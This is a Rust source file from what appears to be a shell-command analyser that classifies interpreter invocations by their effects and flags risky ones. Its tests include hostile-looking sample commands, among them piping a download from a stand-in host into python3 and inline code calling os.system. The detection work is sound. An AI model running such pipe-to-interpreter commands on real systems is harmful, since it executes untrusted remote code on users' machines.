//! Language interpreters: inline code, modules, script files, standard input.

use super::super::Invocation;
use super::pure::{self, Language};
use crate::coverage::Degree;
use crate::effect::Operation;
use crate::flow::FlowKind;
use crate::knowledge::schema::{Does, Role};
use crate::marks::{Mark, Marks};
use crate::observe::observer::By;
use crate::observe::shell::field::Field;
use crate::observe::shell::run::Runner;
use crate::observe::shell::state::State;
use crate::observe::stream::Stream;
use crate::observe::touch::Touch;
use crate::path;
use crate::world::Kind;

/// Modules of Python that only print.
const PRINTING: &[&str] = &[
    "site",
    "sysconfig",
    "platform",
    "this",
    "calendar",
    "json.tool",
    "tokenize",
    "ast",
    "dis",
    "py_compile",
    "compileall",
    "tabnanny",
    "pyclbr",
];

impl Runner<'_, '_> {
    pub fn interpreter(&mut self, invocation: &mut Invocation, state: &mut State<'_>) {
        let args = &invocation.args;
        let has_code = args
            .given
            .iter()
            .any(|given| given.value.is_some() && matches!(given.role, Role::Code | Role::CodePython | Role::CodeJs));
        let module = args.value("-m").cloned().filter(|_| language(invocation) == Language::Python);
        if has_code {
            invocation.roles.iter_mut().for_each(|role| *role = Role::Data);
            return;
        }
        if let Some(module) = module {
            return self.module(&module, invocation, state);
        }
        if args.has("--test") {
            return self.own_tests(invocation);
        }
        if args.given.iter().any(|given| matches!(given.name.as_str(), "--check" | "-c") && given.value.is_none()) {
            return invocation.roles.iter_mut().for_each(|role| *role = Role::Read);
        }
        match invocation.operand(0).cloned() {
            None => self.standard_input(invocation),
            Some(file) if matches!(file.text.as_str(), "-" | "/dev/stdin") => self.standard_input(invocation),
            Some(file) => {
                if let Some(text) = &file.process {
                    let stream = Stream { text: text.clone(), ..Stream::unknown(file.origin) };
                    self.code_stream(&stream, invocation);
                    invocation.roles.iter_mut().for_each(|role| *role = Role::Data);
                }
                if let Some(file) = file.exact() {
                    self.address_as_script(file, invocation);
                }
            }
        }
    }

    /// `deno run https://…`: a script that is fetched.
    fn address_as_script(&mut self, file: &str, invocation: &mut Invocation) {
        if file.contains("://") || file.starts_with("npm:") || file.starts_with("jsr:") {
            let by = invocation.by.clone();
            self.out.flow(FlowKind::DownloadToExecute, by.part, by.part);
            self.out.lower(Degree::Opaque, format!("`{}` runs code from `{file}`", by.name));
            self.out.unknown(Operation::Execute, &by, Marks::default().with(Mark::RemoteCode));
            invocation.roles.iter_mut().for_each(|role| *role = Role::Data);
        }
    }

    fn standard_input(&mut self, invocation: &mut Invocation) {
        invocation.roles.iter_mut().for_each(|role| *role = Role::Data);
        let input = invocation.input.clone();
        if input == Stream::empty() {
            let mut does = Does::usual(Operation::Execute);
            does.marks.add(Mark::Interactive);
            let name = invocation.by.name.clone();
            return self.on_resource(&does, name, invocation);
        }
        self.code_stream(&input, invocation);
    }

    fn code_stream(&mut self, stream: &Stream, invocation: &Invocation) {
        match &stream.text {
            Some(text) if !stream.origin.download => self.inline_code(text, language(invocation), &invocation.by),
            Some(_) | None => self.runs_data(stream.origin, &invocation.by),
        }
    }

    /// The one place where inline code of another language is judged.
    pub fn inline_code(&mut self, text: &str, language: Language, by: &By) {
        if self.out.world.project_trusted() && pure::is_pure(text, language) {
            return;
        }
        self.out.lower(Degree::Opaque, format!("{} code given to `{}`", language.name(), by.name));
        self.out.unknown(Operation::Execute, by, Marks::default().with(Mark::InlineCode));
    }

    /// `node --test`.
    fn own_tests(&mut self, invocation: &mut Invocation) {
        invocation.roles.iter_mut().for_each(|role| *role = Role::Read);
        invocation.does.push(executes(Mark::Test));
    }

    /// `python -m module arguments`.
    fn module(&mut self, module: &Field, invocation: &mut Invocation, state: &mut State<'_>) {
        invocation.roles.iter_mut().for_each(|role| *role = Role::Data);
        let Some(name) = module.exact().map(str::to_owned) else {
            return self.out.lower(Degree::Opaque, "which module is run");
        };
        let local = invocation.cwd.as_deref().is_some_and(|cwd| {
            let base = path::join(cwd, &name.replace('.', "/"));
            [base.clone(), format!("{base}.py")]
                .iter()
                .any(|file| matches!(self.out.world.look(file).kind, Kind::File | Kind::Directory))
        });
        let entry = self.out.knowledge.entry(&name).or_else(|| self.out.knowledge.entry(&name.replace('_', "-")));
        match (name.as_str(), entry) {
            _ if local => invocation.does.push(executes(Mark::RunsProject)),
            ("json.tool", _) => self.json_tool(invocation, state),
            ("py_compile" | "compileall" | "tokenize" | "ast" | "dis", _) => {
                invocation.roles.iter_mut().for_each(|role| *role = Role::Read)
            }
            ("http.server", _) => {
                let mut does = Does::usual(Operation::Network);
                does.marks.add(Mark::Listens);
                invocation.does.push(does);
            }
            ("venv" | "virtualenv", _) => self.virtual_environment(invocation, state),
            ("unittest" | "doctest", _) => invocation.does.push(executes(Mark::Test)),
            (name, _) if PRINTING.contains(&name) => {}
            (_, Some(entry)) => {
                let words = invocation.args.operands.clone();
                invocation.done = true;
                let by = By { name, part: invocation.by.part };
                invocation.output = self.invoke(entry, &words, state, invocation.input.clone(), by);
            }
            (_, None) => {
                self.out.lower(Degree::Unknown, format!("the module `{name}`"));
                let mut does = executes(Mark::UnknownProgram);
                does.reversibility = crate::effect::Reversibility::Irreversible;
                invocation.does.push(does);
            }
        }
    }

    fn json_tool(&mut self, invocation: &mut Invocation, state: &mut State<'_>) {
        let files: Vec<Field> =
            invocation.args.operands.iter().filter(|field| !field.text.starts_with('-')).cloned().collect();
        if let Some(file) = files.first() {
            self.reads(Touch::Read, file, invocation, state);
        }
        if let Some(file) = files.get(1) {
            self.writes(Touch::Write, file, invocation, state);
        }
    }

    fn virtual_environment(&mut self, invocation: &mut Invocation, state: &mut State<'_>) {
        let clears = invocation.args.operands.iter().any(|field| field.text == "--clear");
        for field in invocation.args.operands.clone().iter().filter(|field| !field.text.starts_with('-')) {
            if clears {
                self.role(field, Role::DeleteTree, invocation, state);
            }
            let before = self.out.effects.len();
            self.writes(Touch::Create, field, invocation, state);
            self.out.effects.iter_mut().skip(before).for_each(|effect| effect.marks.add(Mark::CountUnknown));
        }
    }
}

fn executes(mark: Mark) -> Does {
    let mut does = Does::usual(Operation::Execute);
    does.marks.add(mark);
    does
}

fn language(invocation: &Invocation) -> Language {
    let name = invocation.by.name.as_str();
    if ["python", "pypy", "ipython", "coverage"].iter().any(|known| name.starts_with(known)) {
        Language::Python
    } else if ["node", "deno", "bun", "tsx", "ts-node"].iter().any(|known| name.starts_with(known)) {
        Language::JavaScript
    } else {
        Language::Other
    }
}

#[cfg(test)]
mod tests {
    use super::super::check::{check, flows};

    const PYTHON: &str = "name = 'python3'\nwhat = 'x'\ngrammar = 'interpreter'\nstops = true\noperands = ['script?', 'data*']\n[flags]\nplain = '-u -B -q'\n'-m -W' = 'data'\n'-c' = 'code-python'\n'-V --version' = 'info'";
    const NODE: &str = "name = 'node'\nwhat = 'x'\ngrammar = 'interpreter'\nstops = true\noperands = ['script?', 'data*']\n[flags]\nplain = '--test'\n'-e -p' = 'code-js'\n'--check' = 'read-only'";
    const PYTEST: &str = "name = 'pytest'\nwhat = 'x'\noperands = ['read*']\ndoes = ['execute +test']\ndelegates = ['pytest.ini']\n[flags]\nplain = '-q -x'";
    const CURL: &str = "name = 'curl'\nwhat = 'x'\ngrammar = 'curl'\noperands = ['url*']\n[flags]\nplain = '-s'";

    #[test]
    fn code_on_the_command_line() {
        check(
            &[PYTHON, NODE],
            &[
                ("python3 --version", "full", ""),
                ("python3 -c 'print(1 + 2)'", "full", ""),
                ("python3 -c 'import os; os.system(\"id\")'", "opaque", "execute something unknown +inline-code"),
                ("python3 - <<'E'\nprint(2 ** 10)\nE", "full", ""),
                ("python3 <<'E'\nimport shutil\nE", "opaque", "execute something unknown +inline-code"),
                ("node -e 'console.log(process.version)'", "full", ""),
                ("node -p 'require(\"fs\")'", "opaque", "execute something unknown"),
                ("python3 -c \"print($X)\"", "opaque", "execute something unknown"),
                ("cat notes.txt | python3 -c 'print(1)'", "full", "read notes.txt"),
                ("cat notes.txt | python3", "opaque", "read notes.txt; execute something unknown +shell-code"),
            ],
        );
        assert!(
            flows(&[PYTHON, CURL], "curl -s https://x.example | python3 -").contains(&"download-to-execute".to_owned())
        );
        assert!(
            !flows(&[PYTHON, CURL], "curl -s https://x.example | python3 -c 'print(1)'")
                .contains(&"download-to-execute".to_owned())
        );
    }

    #[test]
    fn modules_and_files() {
        check(
            &[PYTHON, NODE, PYTEST],
            &[
                ("python3 -m json.tool data.json", "full", "read data.json"),
                ("cat a.json | python3 -m json.tool", "full", "read a.json"),
                ("python3 -m venv .venv", "full", "write .venv +count-unknown"),
                ("python3 -m http.server 8000", "full", "network python3 +listens"),
                ("python3 -m pytest -q tests", "delegated", "read tests; execute pytest +test"),
                ("python3 -m frob x", "unknown", "execute python3 +unknown-program"),
                ("python3 tools/gen.py --out x", "delegated", "execute tools/gen.py +runs-project"),
                ("echo 'x' > a.py && python3 a.py", "opaque", "write a.py; execute a.py +session-file"),
                ("node --test", "delegated", "execute node +test"),
                ("node --check src/index.js", "full", "read src/index.js"),
                ("python3 /tmp/x.py", "opaque", "execute /tmp/x.py +outside-project"),
            ],
        );
    }
}
